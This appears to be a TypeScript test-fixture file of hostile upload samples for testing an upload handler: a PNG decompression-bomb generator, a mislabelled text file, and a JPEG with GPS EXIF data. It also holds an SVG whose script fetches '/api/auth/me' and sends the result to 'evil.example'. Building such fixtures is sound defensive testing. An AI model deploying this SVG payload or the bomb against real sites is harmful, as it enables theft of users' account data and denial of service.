/**
 * Files an attacker might upload: a PNG whose header promises far more
 * pixels than its few kilobytes suggest (a decompression bomb), an SVG with
 * script, text pretending to be an image, and a JPEG carrying EXIF data.
 */
import zlib from 'node:zlib';
import sharp from 'sharp';

function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typed = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(typed) >>> 0);
  return Buffer.concat([length, typed, crc]);
}

/** A valid greyscale PNG of `side`×`side` black pixels; deflate squeezes it to a few tens of kB. */
export function decompressionBombPng(side = 7000): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(side, 0);
  ihdr.writeUInt32BE(side, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 0; // greyscale
  // Each row: filter byte 0, then `side` zero pixels.
  const raw = Buffer.alloc((side + 1) * side);
  const idat = zlib.deflateSync(raw, { level: 9 });
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), chunk('IDAT', idat), chunk('IEND', Buffer.alloc(0))]);
}

export const SVG_WITH_SCRIPT = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>fetch("/api/auth/me").then(r=>r.text()).then(t=>location="https://evil.example/?"+t)</script><rect width="10" height="10"/></svg>',
);

export const TEXT_NAMED_PNG = Buffer.from('This is not an image at all, just text with a .png name.\n'.repeat(20));

export const EXIF_SECRET = 'GPS 48.8584N 2.2945E home of the Martins';

/** A JPEG whose EXIF says where the family lives. */
export function jpegWithExif(): Promise<Buffer> {
  return sharp({ create: { width: 32, height: 24, channels: 3, background: { r: 200, g: 120, b: 40 } } })
    .jpeg()
    .withExif({ IFD0: { ImageDescription: EXIF_SECRET, Copyright: EXIF_SECRET } })
    .toBuffer();
}

/** A multipart body with one `file` part. */
export function fileForm(bytes: Uint8Array, name: string, type = 'application/octet-stream'): FormData {
  const form = new FormData();
  form.append('file', new File([Buffer.from(bytes)], name, { type }));
  return form;
}
